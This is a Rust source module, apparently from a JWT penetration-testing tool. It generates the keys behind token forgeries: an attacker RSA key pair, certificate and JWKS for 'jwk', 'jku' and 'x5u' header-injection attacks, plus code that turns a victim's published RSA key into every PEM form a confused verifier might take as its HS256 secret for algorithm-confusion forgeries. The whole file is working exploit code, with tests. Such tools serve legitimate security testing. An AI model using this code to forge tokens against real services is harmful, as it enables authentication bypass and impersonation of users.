//! The keys of the forgeries: the attacker's own RSA key pair (embedded `jwk`, `jku`, `x5u`) and the
//! victim's published RSA key written out as the PEM texts a confused HS256 verifier uses as its secret.

use rsa::pkcs1::EncodeRsaPublicKey as _;
use rsa::pkcs8::{DecodePrivateKey as _, DecodePublicKey as _, EncodePublicKey as _, LineEnding};
use rsa::signature::{SignatureEncoding as _, Signer as _};
use rsa::traits::PublicKeyParts as _;
use rsa::{BigUint, RsaPrivateKey, RsaPublicKey};
use serde_json::{Value, json};

use super::token::{b64, b64_decode};

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum KeyError {
    #[error("could not make the attacker's key pair: {0}")]
    Generate(String),
    #[error("the published key set has no usable RSA key: {0}")]
    Jwks(String),
}

/// usher's RSA-2048 key pair for the forgeries that bring their own key. Made once per run (key
/// generation is the slow part) and shared. `Debug` shows the key id only.
pub struct AttackerKey {
    kid: String,
    private: RsaPrivateKey,
    certificate_pem: String,
}

impl std::fmt::Debug for AttackerKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AttackerKey")
            .field("kid", &self.kid)
            .finish()
    }
}

impl AttackerKey {
    /// A fresh key pair and its self-signed certificate (aws-lc-rs generates the key: milliseconds,
    /// where a pure-Rust generation in a debug build takes seconds).
    pub fn generate() -> Result<AttackerKey, KeyError> {
        let err = |e: &dyn std::fmt::Display| KeyError::Generate(e.to_string());
        let pair =
            rcgen::KeyPair::generate_rsa_for(&rcgen::PKCS_RSA_SHA256, rcgen::RsaKeySize::_2048)
                .map_err(|e| err(&e))?;
        let private = RsaPrivateKey::from_pkcs8_der(&pair.serialize_der()).map_err(|e| err(&e))?;
        let mut params = rcgen::CertificateParams::new(vec!["usher.invalid".to_string()])
            .map_err(|e| err(&e))?;
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "usher JWT forgery key");
        let certificate_pem = params.self_signed(&pair).map_err(|e| err(&e))?.pem();
        let n = private.to_public_key().n().to_bytes_be();
        let kid = format!(
            "usher-{}",
            &crate::redact::fingerprint(crate::redact::Kind::Token, &b64(&n))[4..]
        );
        Ok(AttackerKey {
            kid,
            private,
            certificate_pem,
        })
    }

    /// The key id the forgeries put in their header (and the JWKS in its key).
    pub fn kid(&self) -> &str {
        &self.kid
    }

    /// The public key as a JWK (what an embedded-`jwk` forgery carries).
    pub fn jwk(&self) -> Value {
        let public = self.private.to_public_key();
        json!({
            "kty": "RSA",
            "kid": self.kid,
            "use": "sig",
            "alg": "RS256",
            "e": b64(&public.e().to_bytes_be()),
            "n": b64(&public.n().to_bytes_be()),
        })
    }

    /// The JWKS document to serve at the URL a `jku` forgery names (`application/json`).
    pub fn jwks(&self) -> String {
        json!({ "keys": [self.jwk()] }).to_string()
    }

    /// The self-signed certificate (PEM) to serve at the URL an `x5u` forgery names
    /// (`application/pem-certificate-chain`, RFC 7515 §4.1.5).
    pub fn certificate_pem(&self) -> &str {
        &self.certificate_pem
    }

    pub(crate) fn sign_rs256(&self, input: &[u8]) -> Vec<u8> {
        rsa::pkcs1v15::SigningKey::<sha2::Sha256>::new(self.private.clone())
            .sign(input)
            .to_vec()
    }
}

/// One text a confused verifier may use as the HMAC secret: the victim's public key in one PEM form.
/// The key is public, so showing it is fine; the label says which form it is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConfusionKey {
    /// The `kid` of the JWKS key it came from, if any (the forgery keeps it in its header).
    pub kid: Option<String>,
    pub label: String,
    pub secret: Vec<u8>,
}

fn rsa_keys_of(published: &str) -> Result<Vec<(Option<String>, RsaPublicKey)>, KeyError> {
    let text = published.trim();
    if text.starts_with("-----BEGIN") {
        let key = RsaPublicKey::from_public_key_pem(text)
            .or_else(|_| rsa::pkcs1::DecodeRsaPublicKey::from_pkcs1_pem(text))
            .map_err(|e| KeyError::Jwks(format!("PEM: {e}")))?;
        return Ok(vec![(None, key)]);
    }
    let doc: Value =
        serde_json::from_str(text).map_err(|e| KeyError::Jwks(format!("not JSON: {e}")))?;
    let keys: Vec<&Value> = match doc.get("keys").and_then(Value::as_array) {
        Some(keys) => keys.iter().collect(),
        None => vec![&doc],
    };
    let mut out = Vec::new();
    for key in keys {
        if key.get("kty").and_then(Value::as_str) != Some("RSA") {
            continue;
        }
        let part = |name: &str| {
            key.get(name)
                .and_then(Value::as_str)
                .and_then(b64_decode)
                .map(|b| BigUint::from_bytes_be(&b))
        };
        let (Some(n), Some(e)) = (part("n"), part("e")) else {
            continue;
        };
        if let Ok(public) = RsaPublicKey::new(n, e) {
            let kid = key.get("kid").and_then(Value::as_str).map(str::to_string);
            out.push((kid, public));
        }
    }
    if out.is_empty() {
        return Err(KeyError::Jwks("no key with kty RSA and valid n, e".into()));
    }
    Ok(out)
}

/// Every PEM text of every RSA key in `published` (a JWKS document, one JWK, or a PEM public key) that a
/// verifier trusting the header's `alg` could take as its HS256 secret: SPKI (`PUBLIC KEY`) and PKCS#1
/// (`RSA PUBLIC KEY`), LF and CRLF line ends, with and without the final line end — as jwt_tool signs
/// with the bytes of the PEM file, and servers read key files with or without trimming them.
pub fn key_confusion_secrets(published: &str) -> Result<Vec<ConfusionKey>, KeyError> {
    let mut out = Vec::new();
    for (kid, key) in rsa_keys_of(published)? {
        for (ending, ending_name) in [(LineEnding::LF, "LF"), (LineEnding::CRLF, "CRLF")] {
            let spki = key
                .to_public_key_pem(ending)
                .map_err(|e| KeyError::Jwks(e.to_string()))?;
            let pkcs1 = key
                .to_pkcs1_pem(ending)
                .map_err(|e| KeyError::Jwks(e.to_string()))?;
            for (form, pem) in [("SPKI PEM", spki), ("PKCS#1 PEM", pkcs1)] {
                let trimmed = pem.trim_end().to_string();
                for (text, end) in [(pem, "final line end"), (trimmed, "no final line end")] {
                    out.push(ConfusionKey {
                        kid: kid.clone(),
                        label: format!("{form}, {ending_name}, {end}"),
                        secret: text.into_bytes(),
                    });
                }
            }
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn confusion_secrets_cover_both_pem_forms_and_line_ends() {
        let key = AttackerKey::generate().unwrap();
        let secrets = key_confusion_secrets(&key.jwks()).unwrap();
        assert_eq!(secrets.len(), 8);
        let texts: Vec<String> = secrets
            .iter()
            .map(|s| String::from_utf8(s.secret.clone()).unwrap())
            .collect();
        assert!(
            texts
                .iter()
                .any(|t| t.starts_with("-----BEGIN PUBLIC KEY-----\n"))
        );
        assert!(
            texts
                .iter()
                .any(|t| t.starts_with("-----BEGIN RSA PUBLIC KEY-----\r\n"))
        );
        assert!(
            texts
                .iter()
                .any(|t| t.ends_with("-----END PUBLIC KEY-----\n"))
        );
        assert!(
            texts
                .iter()
                .any(|t| t.ends_with("-----END PUBLIC KEY-----"))
        );
        assert!(secrets.iter().all(|s| s.kid.as_deref() == Some(key.kid())));
        // The same key given as PEM gives the same texts.
        let spki = &texts[0];
        let from_pem = key_confusion_secrets(spki).unwrap();
        assert_eq!(from_pem[0].secret, secrets[0].secret);
        assert!(key_confusion_secrets(r#"{"keys":[{"kty":"EC"}]}"#).is_err());
    }

    #[test]
    fn the_certificate_holds_the_attacker_key() {
        let key = AttackerKey::generate().unwrap();
        assert!(
            key.certificate_pem()
                .starts_with("-----BEGIN CERTIFICATE-----")
        );
        assert!(format!("{key:?}").contains(key.kid()));
        assert_eq!(key.sign_rs256(b"x").len(), 256);
    }
}
